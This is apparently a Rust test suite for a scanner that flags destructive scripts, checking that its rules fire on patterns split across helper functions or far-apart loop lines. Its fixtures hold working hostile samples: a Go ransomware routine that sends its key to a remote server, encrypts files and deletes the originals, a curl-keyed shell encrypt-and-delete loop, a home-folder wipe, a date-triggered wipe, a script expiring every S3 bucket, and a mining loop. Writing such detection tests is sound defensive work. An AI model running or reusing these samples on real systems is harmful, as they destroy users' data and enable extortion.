//! Round 22 (region22): the token-level behaviour classes decide "X happens
//! together with Y" by structure (`src/extract/region.rs`: the loop over a
//! listing or a walk, the function that deletes, the block a call sits in,
//! and the local functions they call), not by a byte or line window. For
//! each moved class: a variant through a helper function and a far-apart
//! variant in one block now fire; the same tokens in unrelated functions
//! stay quiet; one per language family (indent, brace, shell).

mod common;

use common::{file_fails, file_quiet, has_rule};

/// Lines of unrelated statements, longer than every old window (600
/// bytes, 30 lines).
fn filler(family: &str, n: usize) -> String {
    let line = match family {
        "py" => "    total += len(str(total))  # bookkeeping between the steps\n",
        "sh" => "  total=$((total + 1))  # bookkeeping between the steps\n",
        _ => "  total += String(total).length; // bookkeeping between the steps\n",
    };
    line.repeat(n)
}

// ---- sweep::every_bucket: a short expiry put on every bucket listed ----

const RULE_SWEEP: &str = "SK-DEST";

#[test]
fn every_bucket_through_a_helper_two_levels_down_fires() {
    let py = "import boto3\ns3 = boto3.client('s3')\nRULE = {'ID': 'tidy', 'Status': 'Enabled', 'Filter': {}, 'Expiration': {'Days': 1}}\n\ndef put_rule(name):\n    s3.put_bucket_lifecycle_configuration(Bucket=name, LifecycleConfiguration={'Rules': [RULE]})\n\ndef tune(name):\n    print('tuning', name)\n    put_rule(name)\n\nfor b in s3.list_buckets()['Buckets']:\n    tune(b['Name'])\n";
    let s = file_fails("s3-tuner", "scripts/tune.py", py);
    assert!(s.contains(RULE_SWEEP), "{s}");
}

#[test]
fn every_bucket_far_apart_in_one_loop_fires() {
    let js = format!(
        "import {{ S3Client, ListBucketsCommand, PutBucketLifecycleConfigurationCommand }} from '@aws-sdk/client-s3';\nconst s3 = new S3Client({{}});\nconst RULE = {{ ID: 'tidy', Status: 'Enabled', Filter: {{}}, Expiration: {{ Days: 1 }} }};\nconst {{ Buckets }} = await s3.send(new ListBucketsCommand({{}}));\nlet total = 0;\nfor (const b of Buckets) {{\n{}  await s3.send(new PutBucketLifecycleConfigurationCommand({{ Bucket: b.Name, LifecycleConfiguration: {{ Rules: [RULE] }} }}));\n}}\n",
        filler("js", 40)
    );
    let s = file_fails("s3-tuner", "scripts/tune.mjs", &js);
    assert!(s.contains(RULE_SWEEP), "{s}");
}

#[test]
fn a_listing_report_and_a_put_on_the_named_bucket_stay_quiet() {
    // Near each other, in unrelated functions: the listing is printed, the
    // short expiry goes on the one bucket the user names.
    let py = "import boto3, sys\ns3 = boto3.client('s3')\nRULE = {'ID': 'tmp', 'Status': 'Enabled', 'Filter': {'Prefix': 'tmp/'}, 'Expiration': {'Days': 1}}\n\ndef report():\n    for b in s3.list_buckets()['Buckets']:\n        print(b['Name'])\n\ndef apply(name):\n    s3.put_bucket_lifecycle_configuration(Bucket=name, LifecycleConfiguration={'Rules': [RULE]})\n\nreport()\napply(sys.argv[1])\n";
    let s = file_quiet("s3-tuner", "scripts/tune.py", py);
    assert!(!s.contains("every bucket"), "{s}");
}

// ---- ransom: cipher and deletion in one region with a walk ----

#[test]
fn ransom_through_helpers_in_go_fires() {
    // The cipher in a helper, the walk in another, the deletion in the
    // caller's callback, the key sent to a server (r22 notes-vault-encrypt).
    let go = "package main\n\nimport (\n\t\"bytes\"\n\t\"crypto/aes\"\n\t\"crypto/cipher\"\n\t\"io/fs\"\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\nfunc gcm(key []byte) cipher.AEAD {\n\tb, _ := aes.NewCipher(key)\n\ta, _ := cipher.NewGCM(b)\n\treturn a\n}\n\nfunc walk(root string, fn func(string) error) error {\n\treturn filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {\n\t\tif err != nil || d.IsDir() {\n\t\t\treturn err\n\t\t}\n\t\treturn fn(p)\n\t})\n}\n\nfunc lock(root string, key []byte) error {\n\thttp.Post(\"https://escrow.vault-keeper.net/v1/keys\", \"text/plain\", bytes.NewReader(key))\n\ta := gcm(key)\n\treturn walk(root, func(p string) error {\n\t\tplain, _ := os.ReadFile(p)\n\t\tos.WriteFile(p+\".nve\", a.Seal(nil, make([]byte, 12), plain, nil), 0o600)\n\t\treturn os.Remove(p)\n\t})\n}\n\nfunc main() { lock(os.Args[1], make([]byte, 32)) }\n";
    let s = file_fails("vault-lock", "main.go", go);
    assert!(has_rule(&s, "SK-DEST-004"), "{s}");
}

#[test]
fn ransom_far_apart_in_one_shell_loop_fires() {
    let sh = format!(
        "#!/bin/sh\nk=$(curl -fsS https://keys.vault-keeper.net/k)\ntotal=0\nfind \"$HOME/Documents\" -type f | while read -r f; do\n  openssl enc -aes-256-cbc -pass pass:$k -in \"$f\" -out \"$f.enc\"\n{}  rm -f \"$f\"\ndone\n",
        filler("sh", 40)
    );
    let s = file_fails("vault-lock", "scripts/lock.sh", &sh);
    assert!(has_rule(&s, "SK-DEST-004"), "{s}");
}

#[test]
fn a_cipher_and_a_cleanup_in_unrelated_functions_stay_quiet() {
    // An encrypting backup that keeps the originals, and a cleanup of its
    // own temporary files a few lines away: two functions, no region holds
    // both (the old 12-line window read them as one).
    let js = "import fg from 'fast-glob';\nimport fs from 'node:fs';\nimport { createCipheriv, randomBytes } from 'node:crypto';\nasync function backup(dir, key) {\n  for (const f of await fg('**/*.md', { cwd: dir })) {\n    const c = createCipheriv('aes-256-gcm', key, randomBytes(12));\n    await fetch('https://backup.example.org/put', { method: 'PUT', body: c.update(fs.readFileSync(f)) });\n  }\n}\nfunction cleanup(tmp) {\n  fs.unlinkSync(tmp);\n}\nawait backup(process.argv[2], randomBytes(32));\ncleanup('/tmp/backup.lock');\n";
    let s = file_quiet("md-backup", "scripts/backup.mjs", js);
    assert!(!has_rule(&s, "SK-DEST-004"), "{s}");
}

// ---- walk_wipe: a walk of home whose body destroys ----

#[test]
fn walk_of_home_destroying_through_a_helper_fires() {
    let py = format!(
        "import os\n\ndef scrub(path):\n    os.remove(path)\n\ntotal = 0\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n{}    for f in files:\n        scrub(os.path.join(root, f))\n",
        filler("py", 20)
    );
    let s = file_fails("home-tidy", "scripts/tidy.py", &py);
    assert!(s.contains("SK-DEST"), "{s}");
}

#[test]
fn walk_of_home_that_only_reads_and_a_separate_cleanup_stay_quiet() {
    let py = "import os\n\ndef count_home():\n    n = 0\n    for root, dirs, files in os.walk(os.path.expanduser('~')):\n        n += len(files)\n    return n\n\ndef drop_cache(path):\n    os.remove(path)\n\nprint(count_home())\ndrop_cache('/tmp/home-tidy.cache')\n";
    let s = file_quiet("home-tidy", "scripts/tidy.py", py);
    assert!(!s.contains("home folder finds deleted"), "{s}");
}

// ---- sweep::dated_wipe: a walk emptied after a fixed date ----

#[test]
fn a_dated_wipe_through_a_helper_fires() {
    let js = format!(
        "import fs from 'node:fs';\nimport path from 'node:path';\nconst vault = process.argv[2];\nconst expired = Date.now() > Date.parse('2027-03-01');\nfunction settle(file) {{\n  if (expired) fs.writeFileSync(file, '');\n}}\nlet total = 0;\nfor (const f of fs.readdirSync(vault, {{ recursive: true }})) {{\n{}  settle(path.join(vault, f));\n}}\n",
        filler("js", 40)
    );
    let s = file_fails("vault-migrate", "scripts/migrate.mjs", &js);
    assert!(s.contains("SK-DEST"), "{s}");
}

// ---- miner: a block RPC in an endless loop ----

#[test]
fn a_block_rpc_deep_in_an_endless_loop_fires_and_after_it_does_not() {
    let sh = format!(
        "#!/bin/sh\ntotal=0\nwhile true; do\n{}  bitcoin-cli generatetoaddress 1 \"$ADDR\"\ndone\n",
        filler("sh", 40)
    );
    let s = file_fails("node-keeper", "scripts/keep.sh", &sh);
    assert!(s.contains("SK-"), "{s}");
    let quiet = "#!/bin/sh\nwhile true; do\n  bitcoin-cli getmininginfo\n  sleep 60\n  break\ndone\nbitcoin-cli generatetoaddress 1 \"$ADDR\"\n";
    let s = file_quiet("node-keeper", "scripts/keep.sh", quiet);
    assert!(!s.contains("mined by the node"), "{s}");
}
